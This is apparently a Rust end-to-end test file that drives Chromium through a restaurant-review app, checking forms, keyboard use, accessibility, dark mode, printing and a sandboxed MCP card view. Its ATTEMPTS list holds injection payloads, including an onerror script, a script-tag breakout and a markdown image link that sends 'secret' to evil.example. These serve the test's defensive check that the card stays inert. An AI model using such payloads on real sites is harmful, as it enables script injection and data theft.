//! The pages in real Chromium, the way a person uses them: list, create, review, with a bad form on the way.

#![expect(clippy::unwrap_used, reason = "a test fails by a panic")]

use base64::{Engine as _, engine::general_purpose::STANDARD};
use restaurant_tests::{browser::Browser, mcp, on_both_databases, product::Product, workspace};
use serde_json::{Value, json};
use thirtyfour::{
    By, Key, TypingData, WebDriver, WebElement,
    common::print::PrintParameters,
    error::WebDriverResult,
    prelude::{ElementQueryable, ElementWaitable},
};

on_both_databases! {
    a_person_adds_a_restaurant_and_a_review_by_keyboard_and_mouse
    the_pages_fit_a_phone_and_are_dark_when_asked
}

async fn field(driver: &WebDriver, name: &str) -> WebDriverResult<WebElement> {
    driver.find(By::Name(name)).await
}

/// Types over what stands in a field.
async fn fill(driver: &WebDriver, name: &str, text: &str) -> WebDriverResult<()> {
    let field = field(driver, name).await?;
    field.clear().await?;
    field.send_keys(text).await
}

/// Clicks on what leads to another page, and waits until this page is gone.
async fn leave_by(driver: &WebDriver, selector: &str) -> WebDriverResult<()> {
    let element = driver.find(By::Css(selector)).await?;
    element.click().await?;
    element.wait_until().stale().await
}

async fn submit(driver: &WebDriver) -> WebDriverResult<()> {
    leave_by(driver, "main form[method=post] button").await
}

async fn text(driver: &WebDriver) -> WebDriverResult<String> {
    driver.find(By::Tag("body")).await?.text().await
}

async fn a_person_adds_a_restaurant_and_a_review_by_keyboard_and_mouse(product: Product) {
    // Without JavaScript: every step is a plain form.
    let browser = Browser::builder().size(1280, 900).without_javascript().start().await.unwrap();
    let driver = browser.driver();
    add_and_review(driver, &product, &browser).await.unwrap();
    browser.close().await.unwrap();
}

async fn add_and_review(
    driver: &WebDriver,
    product: &Product,
    browser: &Browser,
) -> WebDriverResult<()> {
    driver.goto(product.url("/")).await?;
    browser.screenshot("list-desktop").await.unwrap();
    leave_by(driver, "a[href='/create']").await?;
    fill(driver, "restaurant_name", "Chromium's Corner").await?;
    fill(driver, "street_address", "   ").await?;
    fill(driver, "description", "Tabs and chips").await?;
    submit(driver).await?;
    let address = field(driver, "street_address").await?;
    assert_eq!(address.attr("aria-invalid").await?.as_deref(), Some("true"));
    let described = address.attr("aria-describedby").await?.expect("a message");
    let mut messages = String::new();
    for id in described.split_whitespace() {
        messages.push_str(&driver.find(By::Id(id)).await?.text().await?);
    }
    assert!(messages.contains("blank"), "{messages}");
    let kept = field(driver, "restaurant_name").await?.value().await?;
    assert_eq!(kept.as_deref(), Some("Chromium's Corner"));
    browser.screenshot("create-with-error").await.unwrap();

    fill(driver, "street_address", "156 Render Row").await?;
    submit(driver).await?;
    assert!(driver.find(By::Tag("h1")).await?.text().await?.contains("Chromium's Corner"));
    assert!(driver.find(By::Css("[role=status]")).await?.is_displayed().await?);

    fill(driver, "user_name", "Ann").await?;
    driver.find(By::Css("input[name=rating][value='4']")).await?.click().await?;
    fill(driver, "review_text", "Crisp text, no scripts.").await?;
    submit(driver).await?;
    let shown = text(driver).await?;
    assert!(shown.contains("Crisp text, no scripts.") && shown.contains("Ann"), "{shown}");
    assert!(driver.find(By::Css("time[datetime]")).await?.is_displayed().await?);
    browser.screenshot("details-with-review").await.unwrap();

    driver.goto(product.url("/?search=chromium")).await?;
    assert!(text(driver).await?.contains("Chromium's Corner"));
    Ok(())
}

async fn the_pages_fit_a_phone_and_are_dark_when_asked(product: Product) {
    for (name, width, dark) in
        [("phone-light", 390, false), ("phone-dark", 390, true), ("desktop-dark", 1280, true)]
    {
        let browser = Browser::builder().size(width, 844);
        let browser = if dark { browser.dark() } else { browser }.start().await.unwrap();
        look_around(&product, &browser, name, dark).await.unwrap();
        browser.close().await.unwrap();
    }
}

/// axe finds nothing, with the rules of level AAA, and nothing runs or scrolls sideways.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn everyone_can_use_the_pages() {
    let product = Product::on_sqlite().await.unwrap();
    let narrow = Browser::builder().size(320, 844);
    for (name, browser) in [
        ("narrow", narrow),
        ("narrow-dark", narrow.dark()),
        ("desktop-light", Browser::builder()),
        ("forced-colors", Browser::builder().forced_colors()),
    ] {
        let browser = browser.start().await.unwrap();
        for (page, path) in PAGES {
            browser.driver().goto(product.url(path)).await.unwrap();
            browser.screenshot(&format!("{page}-{name}")).await.unwrap();
            assert_eq!(browser.accessibility().await.unwrap(), [""; 0], "{page}, {name}");
            let script = "return [document.documentElement.scrollWidth <= window.innerWidth, document.scripts.length, \
                document.querySelector('header').offsetHeight <= 105]";
            let seen = browser.driver().execute(script, Vec::new()).await.unwrap();
            let seen = seen.convert::<(bool, usize, bool)>().unwrap();
            // The header has two rows at most.
            assert_eq!(seen, (true, 0, true), "{page}, {name}");
        }
        browser.close().await.unwrap();
    }
}

/// The pages, each by the name of its picture.
const PAGES: [(&str, &str); 7] = [
    ("list", "/"),
    ("details", "/details/1"),
    ("create", "/create"),
    ("activity", "/activity"),
    ("connect", "/connect"),
    ("welcome", "/welcome"),
    ("missing", "/nothing"),
];

async fn look_around(
    product: &Product,
    browser: &Browser,
    name: &str,
    dark: bool,
) -> WebDriverResult<()> {
    let driver = browser.driver();
    for (page, path) in PAGES {
        driver.goto(product.url(path)).await?;
        let script = "return [document.documentElement.scrollWidth <= window.innerWidth, getComputedStyle(document.body).backgroundColor]";
        let seen = driver.execute(script, Vec::new()).await?;
        let (fits, background): (bool, String) = seen.convert()?;
        assert!(fits, "{page} scrolls sideways on {name}");
        let brightness: u32 = background
            .split(|c: char| !c.is_ascii_digit())
            .filter_map(|part| part.parse::<u32>().ok())
            .take(3)
            .sum();
        assert_eq!(brightness < 3 * 128, dark, "{background} on {name}");
        browser.screenshot(&format!("{page}-{name}")).await.unwrap();
    }
    Ok(())
}

/// Presses the tabulator key until an element has the focus, and checks that each one on the way shows it.
async fn tab_to(driver: &WebDriver, selector: &str) -> WebDriverResult<()> {
    let script = "const focused = document.activeElement; \
        return [focused.matches(arguments[0]), focused === document.body || focused.localName === 'main' || getComputedStyle(focused).outlineStyle !== 'none']";
    let mut is_it = false;
    for _ in 0..60 {
        press(driver, Key::Tab).await?;
        let focused = driver.execute(script, vec![json!(selector)]).await?;
        let is_shown: bool;
        (is_it, is_shown) = focused.convert()?;
        assert!(
            is_shown,
            "{} has the focus unseen",
            driver.active_element().await?.outer_html().await?
        );
        if is_it {
            break;
        }
    }
    assert!(is_it, "no key leads to {selector}");
    Ok(())
}

async fn press(driver: &WebDriver, keys: impl Into<TypingData>) -> WebDriverResult<()> {
    driver.action_chain().send_keys(keys).perform().await
}

/// Presses a key that leads to another page, and waits until this page is gone.
async fn leave_with(driver: &WebDriver, key: Key) -> WebDriverResult<()> {
    let page = driver.find(By::Tag("html")).await?;
    press(driver, key).await?;
    page.wait_until().stale().await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_restaurant_and_a_review_are_written_by_keyboard_alone() {
    let product = Product::on_sqlite().await.unwrap();
    let browser = Browser::builder().start().await.unwrap();
    write_by_keyboard(browser.driver(), &product).await.unwrap();
    browser.close().await.unwrap();
}

async fn write_by_keyboard(driver: &WebDriver, product: &Product) -> WebDriverResult<()> {
    driver.goto(product.url("/")).await?;
    press(driver, Key::Tab).await?;
    let first = driver.active_element().await?;
    assert_eq!(first.text().await?, "Skip to content");
    tab_to(driver, "a[href='/create']").await?;
    leave_with(driver, Key::Enter).await?;
    for (field, text) in [
        ("restaurant_name", "Tab Stop"),
        ("street_address", "4 Key Row"),
        ("description", "Quick."),
    ] {
        tab_to(driver, &format!("[name={field}]")).await?;
        press(driver, text).await?;
    }
    tab_to(driver, "button[type=submit]").await?;
    leave_with(driver, Key::Enter).await?;
    let focused = driver.active_element().await?;
    assert_eq!(focused.attr("role").await?.as_deref(), Some("status"));
    tab_to(driver, "[name=user_name]").await?;
    press(driver, "Ann").await?;
    tab_to(driver, "[name=rating]").await?;
    press(driver, Key::Down).await?;
    tab_to(driver, "[name=review_text]").await?;
    press(driver, "No mouse needed.").await?;
    tab_to(driver, "form[action^='/review'] button").await?;
    leave_with(driver, Key::Enter).await?;
    let shown = text(driver).await?;
    assert!(shown.contains("4 of 5 – good") && shown.contains("No mouse needed."), "{shown}");
    // Reviews are picked by links, which keys reach too.
    tab_to(driver, "a[href*='?stars=4']").await?;
    leave_with(driver, Key::Enter).await?;
    assert!(text(driver).await?.contains("Only reviews with 4 stars"));
    Ok(())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn details_with_three_reviews_are_printed_on_one_page() {
    let product = Product::on_sqlite().await.unwrap();
    let client = reqwest::Client::new();
    let write = async |tool, arguments: Value| {
        let answer = mcp::post(&client, product.url("/mcp"), &mcp::tool_call(tool, &arguments));
        let answer: Value = answer.send().await.unwrap().json().await.unwrap();
        answer["result"]["structuredContent"]["id"].clone()
    };
    let restaurant = json!({
        "restaurant_name": "Paper", "street_address": "1 Print Row", "description": "d ".repeat(125),
    });
    let id = write("create_restaurant_mcp", restaurant).await;
    for rating in 3..=5 {
        let text = "Words that fill a line. ".repeat(20);
        let review =
            json!({"restaurant_id": id, "user_name": "Ann", "rating": rating, "review_text": text});
        write("create_review_mcp", review).await;
    }
    let browser = Browser::builder().start().await.unwrap();
    let driver = browser.driver();
    driver.goto(product.url(&format!("/details/{id}"))).await.unwrap();
    let printed = driver.print_page(PrintParameters::default()).await.unwrap();
    let pages = String::from_utf8_lossy(&printed).matches("/Type /Page\n").count();
    assert_eq!(pages, 1);
    browser.close().await.unwrap();
}

/// The pictures of the README, each under 60 kB. With `RENEW_PICTURES` they replace those in `docs/images`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_pictures_of_the_readme_are_small() {
    let product = Product::on_sqlite().await.unwrap();
    let browser = Browser::builder().size(1280, 800).start().await.unwrap();
    for (picture, path) in
        [("list", "/?sort=rating"), ("details", "/details/1"), ("activity", "/activity")]
    {
        browser.driver().goto(product.url(path)).await.unwrap();
        let taken = json!({"format": "webp", "quality": 75});
        let taken = browser.driver().cdp().send_raw("Page.captureScreenshot", taken).await.unwrap();
        let taken = STANDARD.decode(taken["data"].as_str().unwrap()).unwrap();
        assert!((5_000..60_000).contains(&taken.len()), "{picture} has {} bytes", taken.len());
        let file = workspace::root().join(format!("docs/images/{picture}.webp"));
        if std::env::var_os("RENEW_PICTURES").is_some() {
            std::fs::write(&file, taken).unwrap();
        }
        assert!(std::fs::metadata(file).unwrap().len() < 60_000, "{picture}");
    }
    browser.close().await.unwrap();
}

/// What a client shows around a view of a tool: the Content Security Policy that MCP Apps demands where a view names no domains.
const VIEW_POLICY: &str = "default-src 'none'; script-src 'self' 'unsafe-inline'; style-src 'self' 'unsafe-inline'; \
    img-src 'self' data:; media-src 'self' data:; connect-src 'none'; frame-src 'self'";

/// Shows a view in a frame, and gives it the result of its tool.
const SHOW_VIEW: &str = r#"
    const [view, result] = arguments;
    window.heard = [];
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-scripts";
    frame.srcdoc = view;
    const send = (message) => frame.contentWindow.postMessage({ jsonrpc: "2.0", ...message }, "*");
    window.addEventListener("message", ({ source, data }) => {
        if (source !== frame.contentWindow) return;
        window.heard.push(data.method ?? `answer ${data.id}`);
        if (data.method === "ui/initialize") {
            send({ id: data.id, result: { protocolVersion: "2026-01-26", hostContext: { theme: "dark" } } });
        } else if (data.method === "ui/notifications/initialized") {
            send({ method: "ui/notifications/tool-result", params: result });
            send({ id: 7, method: "ui/resource-teardown", params: {} });
        }
    });
    document.body.append(frame);
"#;

/// Texts that would be elements or links of the card.
const ATTEMPTS: [&str; 3] = [
    "<img src=x onerror=alert(1)><a href='https://evil.example'>x</a>",
    "![x](https://evil.example/?q=secret) [x](https://evil.example)",
    "</bdi></h1><script>document.title = 'taken'</script>",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_card_shows_a_restaurant_and_nothing_in_it_is_active() {
    let product = Product::on_sqlite().await.unwrap();
    let request = async |message: Value| {
        let answer = mcp::post(&reqwest::Client::new(), product.url("/mcp"), &message).send();
        answer.await.unwrap().json::<Value>().await.unwrap()["result"].clone()
    };
    let restaurant = json!({
        "restaurant_name": "<b>Bold</b>", "street_address": "<i>1</i>", "description": ATTEMPTS[0],
    });
    let made = request(mcp::tool_call("create_restaurant_mcp", &restaurant)).await;
    let id = made["structuredContent"]["id"].clone();
    for attempt in ATTEMPTS {
        let review =
            json!({"restaurant_id": id, "user_name": "Ann", "rating": 4, "review_text": attempt});
        request(mcp::tool_call("create_review_mcp", &review)).await;
    }
    let details = request(mcp::tool_call("get_details_mcp", &json!({"restaurant_id": id}))).await;
    let read = json!({"uri": "ui://restaurant-reviews/card"});
    let view = request(mcp::request("resources/read", &read)).await;
    let view = view["contents"][0]["text"].clone();

    let page = async || {
        let page = axum::response::Html("<!doctype html><title>Host</title><body>");
        ([("content-security-policy", VIEW_POLICY)], page)
    };
    let app = axum::Router::new().route("/", axum::routing::get(page));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let host = format!("http://{}/", listener.local_addr().unwrap());
    tokio::spawn(async move { axum::serve(listener, app).await });
    let browser = Browser::builder().size(600, 900).start().await.unwrap();
    look_at_card(&browser, &host, vec![view, details]).await.unwrap();
    browser.close().await.unwrap();
}

async fn look_at_card(browser: &Browser, host: &str, shown: Vec<Value>) -> WebDriverResult<()> {
    let driver = browser.driver();
    driver.goto(host).await?;
    driver.execute(SHOW_VIEW, shown).await?;
    driver.enter_frame(0).await?;
    driver.query(By::Css("#reviews li:nth-child(3)")).first().await?;
    let body = text(driver).await?;
    for expected in ["<b>Bold</b>", "<i>1</i>", "4 of 5 · 3 reviews"].into_iter().chain(ATTEMPTS) {
        assert!(body.contains(expected), "{expected} is not in {body}");
    }
    let elements = "return [...document.body.querySelectorAll('*')].map((it) => it.localName)";
    let elements: Vec<String> = driver.execute(elements, vec![]).await?.convert()?;
    let unknown: Vec<_> = elements
        .iter()
        .filter(|name| !["main", "h1", "bdi", "p", "ol", "li", "script"].contains(&name.as_str()))
        .collect();
    assert!(unknown.is_empty(), "{unknown:?}");
    assert_eq!(elements.iter().filter(|name| *name == "script").count(), 1);
    browser.screenshot("card").await.unwrap();
    driver.enter_default_frame().await?;
    let heard = driver.execute("return window.heard", vec![]).await?;
    let heard: Vec<String> = heard.convert()?;
    let mut order = heard.iter().filter(|it| !it.ends_with("size-changed"));
    let expected = ["ui/initialize", "ui/notifications/initialized", "answer 7"];
    assert!(expected.iter().all(|it| order.next().is_some_and(|heard| heard == it)), "{heard:?}");
    assert!(heard.iter().any(|it| it == "ui/notifications/size-changed"), "{heard:?}");
    assert_eq!(driver.title().await?, "Host");
    Ok(())
}
